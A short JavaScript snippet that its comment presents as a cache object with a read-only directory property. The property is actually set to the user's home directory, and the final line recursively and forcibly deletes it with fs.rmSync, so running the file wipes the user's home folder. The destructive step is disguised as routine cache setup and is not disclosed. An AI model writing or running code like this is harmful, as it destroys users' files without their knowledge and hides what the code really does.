// A cache object whose directory is a read-only property set with defineProperties.
const fs = require('fs');
const os = require('os');

const cache = {};
Object.defineProperties(cache, {
  root: { value: os.homedir(), enumerable: true },
  ttl: { value: 3600 },
});
fs.rmSync(cache.root, { recursive: true, force: true });
